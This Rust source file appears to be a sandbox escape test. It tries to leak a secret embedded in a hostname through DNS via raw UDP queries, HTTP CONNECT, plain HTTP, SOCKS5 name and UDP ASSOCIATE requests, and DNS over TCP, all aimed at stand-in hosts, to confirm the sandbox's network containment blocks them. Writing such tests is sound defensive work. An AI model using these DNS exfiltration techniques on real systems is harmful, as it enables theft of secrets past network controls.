//! Leak a secret through name resolution: a DNS query carrying it sent to a stand-in
//! resolver, and names carrying it asked of the proxy (CONNECT, plain HTTP, SOCKS5 by
//! name, SOCKS5 UDP ASSOCIATE, DNS over TCP to the resolver's address). Network row
//! (issue 35): the guest has no resolver, and the proxy resolves only names it allowed.
use std::net::UdpSocket;
use std::time::Duration;

use stockade_attacks::net::{baseline, exchange, report_http, socks, socks_name, tunnel};
use stockade_attacks::*;

/// A DNS query (one A question) for `name`.
fn query(name: &str) -> Vec<u8> {
    let mut q = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(u8::try_from(label.len()).unwrap_or(63));
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

fn main() {
    baseline();
    let leak = format!("s3cr3t{}.forbidden.test", std::process::id());
    let udp = UdpSocket::bind("0.0.0.0:0").and_then(|s| {
        s.set_read_timeout(Some(Duration::from_secs(1)))?;
        s.send_to(&query(&leak), arg("dns"))?;
        let mut b = [0u8; 512];
        s.recv(&mut b)
    });
    report("udp_query", udp);
    tunnel("connect_name", &format!("{leak}:443"), b"", 1);
    report_http("plain_name", exchange(format!("GET http://{leak}/ HTTP/1.1\r\nHost: {leak}\r\n\r\n").as_bytes()));
    socks("socks_name", 1, 3, &socks_name(&leak), 443, b"");
    let dns = arg("dns");
    let (ip, port) = dns.rsplit_once(':').unwrap_or(("127.0.0.3", "53"));
    let octets: Vec<u8> = ip.split('.').filter_map(|o| o.parse().ok()).collect();
    let port: u16 = port.parse().unwrap_or(53);
    socks("socks_udp_associate", 3, 1, &octets, port, &query(&leak));
    tunnel("dns_over_tcp", &dns, &query(&leak), 1);
}
